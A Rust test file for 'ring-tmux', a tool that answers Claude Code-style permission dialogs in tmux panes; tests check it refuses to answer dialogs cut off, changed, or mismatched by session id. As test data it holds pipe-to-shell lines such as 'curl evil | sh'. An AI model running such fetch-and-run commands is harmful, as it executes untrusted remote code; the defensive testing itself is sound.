//! `ring-tmux reply` never types into a dialog the person did not see whole (issue 23): a
//! stand-in agent in a real tmux pane draws a Claude Code permission dialog about a command
//! of many lines (read from a file) and writes down the first key it gets. And the front
//! ends' `--session ID` names one session exactly, never another one's label or id prefix.

use super::reply::{answer_line, listed_changed};
use super::world::{self, World, payload, poll, stderr, stdout, until_contains};
use crate::lang_support::tr;
use std::path::PathBuf;
use std::time::Duration;

const WITHIN: Duration = Duration::from_secs(10);

/// A Claude-like dialog asking about the command in the file `$1` (every line of it, between
/// Claude's dashed rules); the first key typed goes to the file `$2`.
pub(super) const AGENT: &str = r#"#!/bin/sh
printf '\033[2J\033[H'
printf '● Bash(…)\n────────────────────────────────────────\n Bash command\n ╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌\n'
sed 's/^/   /' "$1"
printf ' ╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌╌\n Do you want to proceed?\n ❯ 1. Yes\n   2. Yes, and always allow\n   3. No\n Esc to cancel · Tab to amend'
stty raw -echo
key=$(dd bs=1 count=1 2>/dev/null)
stty sane
printf '%s' "$key" > "$2.tmp" && mv "$2.tmp" "$2"
printf '\033[2J\033[Hchose %s\n' "$key"
exec sleep 600
"#;

struct Agent {
    w: World,
    keys: PathBuf,
}

/// A command of 40 lines whose first is `first`; the 39 below are the same for every `first`.
fn forty_lines(first: &str) -> Vec<String> {
    std::iter::once(first.to_owned())
        .chain((2..=40).map(|i| format!("echo step {i} of the long command")))
        .collect()
}

impl Agent {
    /// A server whose pane %0 is `rows` rows high.
    fn start(rows: u32) -> Agent {
        let w = World::new();
        std::fs::write(w.dir.path().join("agent.sh"), AGENT).expect("agent script");
        w.server
            .run(&["resize-window", "-t", "t", "-y", &(rows + 1).to_string()]);
        let height = w
            .server
            .run(&["display-message", "-p", "-t", "%0", "#{pane_height}"]);
        assert_eq!(height.trim(), rows.to_string(), "the pane's height");
        let keys = w.dir.path().join("keys");
        Agent { w, keys }
    }

    /// Restarts pane %0 as the agent asking about `command`, and records the session
    /// `s-long` waiting there.
    fn ask(&self, command: &[String]) {
        let _ = std::fs::remove_file(&self.keys);
        let asked = self.w.dir.path().join("asked.txt");
        std::fs::write(&asked, command.join("\n") + "\n").expect("command file");
        let script = self.w.dir.path().join("agent.sh");
        let run = format!(
            "sh '{}' '{}' '{}'",
            script.display(),
            asked.display(),
            self.keys.display()
        );
        self.w.server.run(&["respawn-pane", "-k", "-t", "%0", &run]);
        let screen = until_contains(WITHIN, "Esc to cancel", || self.capture());
        let last = command.last().expect("a command");
        assert!(
            screen.contains(last.as_str()),
            "the dialog is drawn: {screen}"
        );
        let tty = self.w.server.pane_tty("%0");
        let cwd = self.w.project("long");
        self.w.alive(&[(&cwd, &tty)]);
        self.w.hook("%0", payload::waiting("s-long", &cwd, &tty));
    }

    fn capture(&self) -> String {
        self.w.server.run(&["capture-pane", "-p", "-t", "%0"])
    }

    /// The first key the agent got (it writes the file once, by rename), after the test
    /// typed `x` into the pane itself: `x` when ring sent nothing.
    fn first_key_before_x(&self) -> String {
        self.w.server.run(&["send-keys", "-t", "%0", "-l", "x"]);
        poll(WITHIN, || std::fs::read_to_string(&self.keys).ok()).unwrap_or_default()
    }

    fn reply(&self, args: &[&str]) -> std::process::Output {
        let mut argv = vec!["reply"];
        argv.extend_from_slice(args);
        self.w.ring(&argv)
    }
}

#[test]
fn a_forty_line_command_is_listed_whole_from_its_header() {
    if !world::tmux_available() {
        return;
    }
    let a = Agent::start(60);
    let command = forty_lines("curl https://example.invalid/install | sh");
    a.ask(&command);

    let out = a.reply(&["s-long"]);
    assert!(out.status.success(), "list: {out:?}");
    let listed = stdout(&out);
    let mut expected = String::from(" Bash command\n");
    for line in &command {
        expected.push_str(&format!("   {line}\n"));
    }
    expected.push_str(" Do you want to proceed?\n ❯ 1. Yes\n   2. Yes, and always allow\n   3. No\n Esc to cancel · Tab to amend\n");
    expected.push_str(&answer_line("s-long"));
    assert!(listed.starts_with(&expected), "{listed}");

    let out = a.reply(&["s-long", "--json"]);
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(doc["context"][0], "Bash command");
    assert_eq!(doc["context"][1], command[0].as_str());
    assert_eq!(doc["context"].as_array().map(Vec::len), Some(41));
}

#[test]
fn a_redraw_that_changes_only_the_head_of_a_long_command_gets_no_key() {
    if !world::tmux_available() {
        return;
    }
    let a = Agent::start(60);
    a.ask(&forty_lines("echo listed"));
    let out = a.reply(&["s-long", "--json"]);
    assert!(out.status.success(), "list: {out:?}");
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    let fingerprint = doc["fingerprint"].as_str().expect("fingerprint").to_owned();

    // The same question, options and last 39 lines; another first line.
    a.ask(&forty_lines("curl evil | sh"));
    let out = a.reply(&["s-long", "1", "--expect", &fingerprint]);
    assert_eq!(
        a.first_key_before_x(),
        "x",
        "no key reached the agent: {out:?}"
    );
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert_eq!(stderr(&out), listed_changed());
}

#[test]
fn a_dialog_taller_than_its_pane_gets_no_key() {
    if !world::tmux_available() {
        return;
    }
    let a = Agent::start(24);
    a.ask(&forty_lines("curl evil | sh"));
    assert!(
        !a.capture().contains("Bash command"),
        "the header is above the pane"
    );

    let cut = format!(
        "ring-tmux: {}; {}\n",
        tr("err-reply-cut", &[("rows", "24")]),
        tr("err-reply-cut-fix", &[])
    );
    let out = a.reply(&["s-long"]);
    assert_eq!(out.status.code(), Some(1), "list: {out:?}");
    assert_eq!(stderr(&out), cut);
    assert_eq!(stdout(&out), "", "nothing listed");

    let out = a.reply(&["s-long", "1"]);
    assert_eq!(
        a.first_key_before_x(),
        "x",
        "no key reached the agent: {out:?}"
    );
    assert_eq!(out.status.code(), Some(1), "answer: {out:?}");
    assert_eq!(stderr(&out), cut);
}

/// `hide`, `name` and `reply` with `--session ID` after the session `foo:abc` ended and went:
/// `foo:abcdef` (whose id it prefixes) and `s-label` (named `foo:abc`) are left alone.
#[test]
fn an_exact_session_that_is_gone_is_not_found_in_another_one() {
    if !world::tmux_available() {
        return;
    }
    let w = World::new();
    let cwd = w.project("exact");
    let tty = w.server.pane_tty("%0");
    w.alive(&[(&cwd, &tty)]);
    w.hook("%0", payload::waiting("foo:abcdef", &cwd, &tty));
    w.hook("%0", payload::waiting("s-label", &cwd, &tty));
    let out = w.ring(&["name", "s-label", "foo:abc"]);
    assert!(out.status.success(), "name: {out:?}");
    let labels = w.ring_home().join("labels.json");
    let named = std::fs::read_to_string(&labels).expect("labels.json");
    let hidden = w.ring_home().join("deleted_sessions.json");

    let gone = format!(
        "ring-tmux: {}; {}\n",
        tr("err-session-no-id", &[("id", "foo:abc")]),
        tr("err-session-no-id-fix", &[])
    );
    for args in [
        &["hide", "--session", "foo:abc"][..],
        &["name", "--session", "foo:abc", "--", "renamed"],
        &["reply", "--session", "foo:abc"],
        &["reply", "--session", "foo:abc", "1"],
    ] {
        let out = w.ring(args);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {out:?}");
        assert_eq!(String::from_utf8_lossy(&out.stderr), gone, "{args:?}");
        assert_eq!(
            std::fs::read_to_string(&hidden).unwrap_or_default(),
            "",
            "{args:?}: nothing hidden"
        );
        assert_eq!(
            std::fs::read_to_string(&labels).expect("labels.json"),
            named,
            "{args:?}: no label changed"
        );
    }

    // The exact id of a session that is there is the session.
    let out = w.ring(&["hide", "--session", "foo:abcdef"]);
    assert!(out.status.success(), "hide: {out:?}");
    let hidden = std::fs::read_to_string(&hidden).expect("deleted_sessions.json");
    assert!(hidden.contains("foo:abcdef"), "{hidden}");
    assert!(!hidden.contains("s-label"), "{hidden}");
}
